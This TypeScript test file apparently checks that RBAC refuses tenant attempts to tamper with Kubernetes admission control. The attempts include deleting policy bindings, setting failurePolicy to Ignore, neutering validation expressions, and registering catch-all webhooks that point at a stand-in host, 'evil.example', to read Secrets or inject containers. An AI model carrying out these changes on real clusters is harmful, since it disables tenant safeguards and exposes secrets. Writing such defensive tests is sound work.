import type { Attempt } from "../support/attempt.ts";
import { type Case, refusedBy } from "../support/cases.ts";
import { jsonPatch, madeInCluster, mergePatch, pathOf, remove } from "../support/requests.ts";

/** Admission itself, which RBAC alone guards: admission policies don't see each other. */

const admission = "admissionregistration.k8s.io/v1" as const;
const policy = (name: string) => pathOf(admission, "validatingadmissionpolicies", undefined, name);
const policyBinding = (name: string) =>
  pathOf(admission, "validatingadmissionpolicybindings", undefined, name);

const webhook = {
  name: "attempt.example.com",
  clientConfig: { url: "https://evil.example/" },
  rules: [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*"] }],
  admissionReviewVersions: ["v1"],
  sideEffects: "None",
};

const ofAdmission: readonly Case[] = [
  [
    "developer of checkout",
    "deletes the binding of an admission policy",
    remove(policyBinding("casemate-images")),
  ],
  [
    "operator of checkout",
    "turns an admission policy's refusals into notes",
    mergePatch(policyBinding("casemate-pods"), { spec: { validationActions: ["Audit"] } }),
  ],
  [
    "delegate of checkout",
    "leaves its namespace out of an admission policy",
    mergePatch(policyBinding("casemate-marked"), {
      spec: { matchResources: { namespaceSelector: { matchLabels: { a: "b" } } } },
    }),
  ],
  [
    "developer of payments",
    "lets an admission policy pass when it breaks",
    mergePatch(policy("casemate-interactive"), { spec: { failurePolicy: "Ignore" } }),
  ],
  [
    "delegate of payments",
    "takes a rule out of an admission policy",
    jsonPatch(policy("casemate-interactive"), {
      op: "replace",
      path: "/spec/validations/0/expression",
      value: "true",
    }),
  ],
  ["operator of payments", "deletes an admission policy", remove(policy("casemate-interactive"))],
  [
    "namespace admin of checkout",
    "deletes all admission policies at once",
    remove(pathOf(admission, "validatingadmissionpolicies")),
  ],
  [
    "workload of checkout/checkoutservice",
    "deletes all bindings of admission policies at once",
    remove(pathOf(admission, "validatingadmissionpolicybindings")),
  ],
  [
    "developer of checkout",
    "makes an admission policy that refuses everybody else's work",
    madeInCluster(admission, "ValidatingAdmissionPolicy", "validatingadmissionpolicies"),
  ],
  [
    "operator of checkout",
    "binds an admission policy",
    madeInCluster(admission, "ValidatingAdmissionPolicyBinding", "validatingadmissionpolicybindings"),
  ],
  [
    "delegate of checkout",
    "makes a policy that changes what others write",
    madeInCluster(admission, "MutatingAdmissionPolicy", "mutatingadmissionpolicies"),
  ],
  [
    "delegate of payments",
    "binds a policy that changes what others write",
    madeInCluster(admission, "MutatingAdmissionPolicyBinding", "mutatingadmissionpolicybindings"),
  ],
  [
    "developer of payments",
    "reads all Secrets that are written by a validating webhook",
    madeInCluster(admission, "ValidatingWebhookConfiguration", "validatingwebhookconfigurations", {
      webhooks: [webhook],
    }),
  ],
  [
    "delegate of checkout",
    "puts containers into others' pods by a mutating webhook",
    madeInCluster(admission, "MutatingWebhookConfiguration", "mutatingwebhookconfigurations", {
      webhooks: [webhook],
    }),
  ],
];

/** Admission policies, their bindings, and webhooks. */
export const admissionTampering: readonly Attempt[] = [
  ...refusedBy("rbac", ofAdmission, {
    why: "Admission is what all tenants' guarantees rest on, and it doesn't guard itself.",
    serves: ["D5", "E2", "4.1.11", "T1562.001"],
  }),
  {
    name: "changes the binding of an admission policy",
    as: "platform",
    does: mergePatch(policyBinding("casemate-images"), { metadata: { annotations: { note: "x" } } }),
    expect: "admitted",
    why: "Admission is the platform's to change; an alert tells of it.",
    serves: ["D5", "D3"],
  },
];
